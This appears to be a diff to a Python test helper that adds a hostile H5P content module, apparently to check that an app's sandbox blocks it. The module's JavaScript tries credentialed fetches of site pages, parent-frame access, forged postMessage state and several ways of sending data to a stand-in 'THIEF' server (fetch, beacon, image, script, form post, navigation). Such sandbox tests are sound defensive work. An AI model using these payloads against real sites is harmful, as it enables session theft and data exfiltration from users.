@@ -4,6 +4,7 @@ The demonstration is another process over its own folder; what is put in is put 
 its own over the same folder.
 """
 
+import json
 import os
 import subprocess
 import sys
@@ -32,6 +33,49 @@ H5P.Probe = function (params, id, extras) {
       $place.find("p").text("answered");
     });
     self.trigger("resize");
+  };
+};
+H5P.Probe.prototype = Object.create(H5P.EventDispatcher.prototype);
+"""
+
+
+# Everything a hostile content might try; `THIEF` is a server of the test that must never be asked anything.
+HOSTILE = """
+H5P.Probe = function (params) {
+  const self = this;
+  H5P.EventDispatcher.call(self);
+  const tried = {};
+  const attempt = async (name, act) => {
+    try { tried[name] = "reached " + String(await act()).slice(0, 80); } catch (error) { tried[name] = "refused"; }
+  };
+  const loaded = (tag, attribute, address) => new Promise((yes, no) => {
+    const element = document.createElement(tag);
+    element.onload = () => yes("loaded"); element.onerror = () => no(new Error());
+    element[attribute] = address; document.body.append(element);
+  });
+  const site = new URL(location.href).origin;
+  self.attach = async ($place) => {
+    $place.html("<p>busy</p>");
+    await attempt("page", () => window.parent.document.title);
+    await attempt("top", () => window.top.location.href);
+    await attempt("storage", () => Object.getPrototypeOf(window).constructor && indexedDB.open("x") && caches.keys());
+    await attempt("session", () => fetch(site + "/en/people/", { credentials: "include" }).then((r) => r.text()));
+    await attempt("state", () => fetch(site + "/en/interactive/1/tell/", { method: "POST", credentials: "include", body: "{}" }).then((r) => r.status));
+    await attempt("thief", () => fetch("THIEF/fetch?" + location.href));
+    await attempt("beacon", () => { if (!navigator.sendBeacon("THIEF/beacon", "x")) throw new Error(); return "sent"; });
+    await attempt("picture", () => loaded("img", "src", "THIEF/picture"));
+    await attempt("script", () => loaded("script", "src", "THIEF/script.js"));
+    await attempt("style", () => { const s = document.createElement("style"); s.textContent = "body{background:url(THIEF/style)}@import 'THIEF/import.css'"; document.head.append(s); return new Promise((y, n) => setTimeout(n, 500)); });
+    await attempt("socket", () => new Promise((yes, no) => { const s = new WebSocket(site.replace("http", "ws") + "/live/1/"); s.onopen = () => yes("open"); s.onerror = no; }));
+    await attempt("window", () => { const w = window.open("THIEF/window"); if (!w) throw new Error(); return "open"; });
+    await attempt("parent", () => { window.top.location = "THIEF/top"; return new Promise((y, n) => setTimeout(n, 500)); });
+    window.parent.postMessage({ h5p: "play", state: "forged" }, "*");
+    window.parent.postMessage({ kind: "state", value: "forged without a port" }, "*");
+    $place.find("p").text(JSON.stringify(tried));
+    $place.append("<button>Send a form</button><button>Leave</button>");
+    const [form, leave] = $place.find("button");
+    form.onclick = () => { const f = document.createElement("form"); f.action = "THIEF/form"; f.method = "post"; document.body.append(f); f.submit(); };
+    leave.onclick = () => { location.href = "THIEF/navigation?" + document.body.innerText.slice(0, 20); };
   };
 };
 H5P.Probe.prototype = Object.create(H5P.EventDispatcher.prototype);
@@ -78,3 +122,9 @@ def put_in(folder: Path, raw: bytes, need: str) -> None:
     more = {"DIOGEL_DEMO": "1", "DIOGEL_DATA": str(folder), "DJANGO_SETTINGS_MODULE": "diogel.settings"}
     command = [sys.executable, "-c", PUT_IN, str(path), slug, need]
     subprocess.run(command, env=surroundings | more, check=True, capture_output=True, timeout=600)
+
+
+def told(text: str) -> dict[str, str]:
+    """What the hostile content says of what it tried."""
+    found: dict[str, str] = json.loads(text)
+    return found
